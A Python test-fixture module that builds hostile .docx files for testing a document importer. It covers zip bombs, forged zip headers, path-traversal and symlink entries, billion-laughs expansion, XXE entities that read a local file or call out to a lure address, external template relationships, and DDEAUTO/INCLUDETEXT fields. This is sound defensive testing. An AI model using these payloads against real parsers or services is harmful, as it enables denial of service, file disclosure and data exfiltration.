"""Word documents whose packing or whose XML tries to flood, to read files or to call out."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from types import MappingProxyType
from typing import Final

from tests.hostile_imports.lures import WORDS, Fixtures, Lures
from tests.hostile_imports.pages import laughs

W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_HEAD: Final = '<?xml version="1.0" encoding="UTF-8"?>'
_MAIN: Final = "word/document.xml"
_CORE_SPACES: Final = (
    'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
    ' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/"'
)


def body(inner: str, declarations: str = "", head: str = _HEAD) -> bytes:
    """Return the main part of a Word document."""
    return f'{head}{declarations}<w:document xmlns:w="{W}"><w:body>{inner}</w:body></w:document>'.encode()


def paragraph(text: str) -> str:
    """Return a paragraph of one run."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def packed(entries: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a Word document with these entries beside what each has."""
    memory = io.BytesIO()
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    with zipfile.ZipFile(memory, "w", method) as archive:
        for name, data in {"[Content_Types].xml": types, **entries}.items():
            archive.writestr(name, data)
    return memory.getvalue()


def _document(text: bytes, **others: bytes) -> bytes:
    return packed({_MAIN: text, **others})


def plain_document() -> bytes:
    """Return a harmless one."""
    return _document(body(paragraph(WORDS)))


def _always(text: bytes) -> Callable[[Lures], bytes]:
    return lambda _lures: _document(text)


def _bomb(_lures: Lures) -> bytes:
    return _document(body(f"<!--{' ' * 250_000_000}-->{paragraph(WORDS)}"))


def _big_picture(_lures: Lures) -> bytes:
    return packed({"word/media/image1.png": bytes(200_000_000), _MAIN: body(paragraph(WORDS))})


def _spoiled(offset: int, shape: str, value: int, *, central: bool, text: bytes = b"") -> Callable[[Lures], bytes]:
    """Return a maker of a document in whose header of the text something is a lie."""

    def make(_lures: Lures) -> bytes:
        data = bytearray(_document(text or body(paragraph(WORDS) * 3_000)))
        mark = b"PK\x01\x02" if central else b"PK\x03\x04"
        place = data.index(_MAIN.encode(), data.index(mark) if central else 0)
        start = data.rindex(mark, 0, place)
        struct.pack_into(shape, data, start + offset, value)
        return bytes(data)

    return make


def _overlapping(_lures: Lures) -> bytes:
    """Return a document in whose directory many entries share the bytes of one."""
    data = _document(body(paragraph(WORDS) * 3_000))
    end = data.rindex(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", data, end + 12)
    directory = data[start : start + size]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"document.xml", b"d%010d" % n) for n in range(1_000))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1_002, 1_002, size + len(copies), start, 0)
    return data[:start] + directory + copies + tail


def _many_entries(_lures: Lures) -> bytes:
    return packed({_MAIN: body(paragraph(WORDS))} | {f"word/{n}": b"" for n in range(30_000)})


def _traversing(_lures: Lures) -> bytes:
    names = (
        "../../../../etc/canary",
        "/etc/canary",
        "..\\..\\canary",
        "C:\\canary",
        "word/../../canary",
        "con",
        "a\nb",
    )
    return packed({_MAIN: body(paragraph(WORDS))} | dict.fromkeys(names, b"x"))


def _linked(_lures: Lures) -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        link = zipfile.ZipInfo(_MAIN)
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/hostname")
    return memory.getvalue()


def _twice(_lures: Lures) -> bytes:
    """Return a document with the same name twice, of which the first one counts."""
    first, second = (body(paragraph(text)) for text in (WORDS, "CANARY-SECOND"))
    data = packed({_MAIN: first, "word/documenX.xml": second})
    return data.replace(b"word/documenX.xml", _MAIN.encode())


def _nested(_lures: Lures) -> bytes:
    inner = packed({"word/document.xml": bytes(50_000_000)})
    for _ in range(5):
        inner = packed({"word/inner.docx": inner, _MAIN: body(paragraph(WORDS))})
    return inner


def _reading(lures: Lures) -> bytes:
    return _document(body(paragraph("&x;"), f'<!DOCTYPE d [<!ENTITY x SYSTEM "{lures.secret.as_uri()}">]>'))


def _calling(lures: Lures) -> bytes:
    return _document(body(paragraph(WORDS), f'<!DOCTYPE d SYSTEM "{lures.address}">'))


def _calling_by_parameter(lures: Lures) -> bytes:
    return _document(body(paragraph(WORDS), f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{lures.address}"> %p;]>'))


def _wide(lures: Lures) -> bytes:
    head = '<?xml version="1.0" encoding="UTF-16"?>'
    whole = body(paragraph("&x;"), f'<!DOCTYPE d [<!ENTITY x SYSTEM "{lures.secret.as_uri()}">]>', head).decode()
    return _document(whole.encode("utf-16"))


def _related(lures: Lures) -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    targets = (lures.address, lures.secret.as_uri(), "\\\\127.0.0.1\\share\\x.dotm", str(lures.secret))
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{kind}/{what}" Target="{target}" TargetMode="External"/>'
        for n, target in enumerate(targets)
        for what in ("attachedTemplate", "image", "oleObject", "aFChunk", "subDocument", "frame")
    )
    text = body(f'<w:altChunk r:id="r0" xmlns:r="{kind}"/><w:subDoc r:id="r1" xmlns:r="{kind}"/>{paragraph(WORDS)}')
    return _document(
        text, **{"word/_rels/document.xml.rels": f'<Relationships xmlns="{space}">{relations}</Relationships>'.encode()}
    )


def _fields(lures: Lures) -> bytes:
    field = "<w:r><w:instrText>{0} {1}</w:instrText></w:r>"
    names = ("INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO", "LINK", "IMPORT")
    inner = "".join(field.format(name, place) for name in names for place in (lures.secret, lures.address))
    return _document(body(f"<w:p>{inner}</w:p>{paragraph(WORDS)}"))


def _core(text: str) -> Callable[[Lures], bytes]:
    return lambda _lures: _document(body(paragraph(WORDS)), **{"docProps/core.xml": text.encode()})


def _noise(_lures: Lures) -> bytes:
    return b"PK\x03\x04" + random.Random(4).randbytes(200_000) + b"word/document.xml" + b"PK\x05\x06" + bytes(18)


def _long_comment(_lures: Lures) -> bytes:
    data = _document(body(paragraph(WORDS)))
    return data[:-2] + struct.pack("<H", 65_535) + b"PK\x05\x06" * 16_000


_TABLE: Final = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p>"

PACKAGES: Final[Fixtures] = MappingProxyType(
    {
        "bomb.docx": _bomb,
        "big_picture.docx": _big_picture,
        "says_it_is_small.docx": _spoiled(24, "<I", 10, central=True, text=body(paragraph(" " * 120_000_000))),
        "says_it_is_large.docx": _spoiled(24, "<I", 0x7FFFFFFF, central=True),
        "packed_size_too_large.docx": _spoiled(20, "<I", 0x7FFFFFFF, central=True),
        "packed_size_zero.docx": _spoiled(20, "<I", 0, central=True),
        "wrong_checksum.docx": _spoiled(16, "<I", 1, central=True),
        "starts_outside.docx": _spoiled(42, "<I", 0x7FFFFFF0, central=True),
        "locked.docx": _spoiled(8, "<H", 1, central=True),
        "unknown_method.docx": _spoiled(10, "<H", 14, central=True),
        "name_runs_over.docx": _spoiled(26, "<H", 65_000, central=False),
        "overlapping.docx": _overlapping,
        "many_entries.docx": _many_entries,
        "traversing.docx": _traversing,
        "link_inside.docx": _linked,
        "same_name_twice.docx": _twice,
        "packed_in_packed.docx": _nested,
        "laughs.docx": _always(body(paragraph("&l11;"), f"<!DOCTYPE d [{laughs()}]>")),
        "grows_squared.docx": _always(body(paragraph("&x;" * 50_000), f'<!DOCTYPE d [<!ENTITY x "{"y" * 50_000}">]>')),
        "reads_file.docx": _reading,
        "calls_out.docx": _calling,
        "calls_by_parameter.docx": _calling_by_parameter,
        "reads_in_utf_16.docx": _wide,
        "encoding_utf_7.docx": _always(body("+ADw-w:p/+AD4-", head='<?xml version="1.0" encoding="UTF-7"?>')),
        "encoding_ebcdic.docx": lambda _lures: _document(
            body(paragraph("&x;"), '<!DOCTYPE d [<!ENTITY x "y">]>', '<?xml version="1.0" encoding="cp037"?>')
            .decode()
            .encode("cp037")
        ),
        "instructions.docx": _always(
            body("<?xml-stylesheet href='file:///etc/hostname'?>" * 50_000 + paragraph(WORDS))
        ),
        "deep.docx": _always(body("<w:sdt>" * 100_000 + paragraph(WORDS))),
        "deep_tables.docx": _always(body(_TABLE * 80 + "</w:tc></w:tr></w:tbl>" * 80)),
        "long_text.docx": _always(body(paragraph("word " * 2_500_000))),
        "many_paragraphs.docx": _always(body("<w:p/>" * 200_000 + paragraph(WORDS))),
        "many_attributes.docx": _always(
            body("<w:p " + " ".join(f'a{n}="b"' for n in range(30_000)) + "/>" + paragraph(WORDS))
        ),
        "wide_cells.docx": _always(
            body(
                '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>'
                f"{paragraph('a')}</w:tc></w:tr></w:tbl>"
            )
        ),
        "related_outside.docx": _related,
        "fields.docx": _fields,
        "laughs_in_core.docx": _core(f"<!DOCTYPE d [{laughs()}]><d>&l11;</d>"),
        "odd_core.docx": _core(
            f"<cp:coreProperties {_CORE_SPACES}><dc:title>\u202egpj.exe{'x' * 100_000}</dc:title>"
            "<dcterms:created>9999-99-99T99:99:99Z</dcterms:created></cp:coreProperties>"
        ),
        "no_text.docx": lambda _lures: packed({"word/styles.xml": b"<x/>"}),
        "empty_text.docx": _always(b""),
        "not_xml.docx": _always(zlib.compress(WORDS.encode())),
        "cut_off.docx": lambda _lures: _document(body(paragraph(WORDS) * 1_000))[:-300],
        "noise.docx": _noise,
        "long_comment.docx": _long_comment,
    }
)
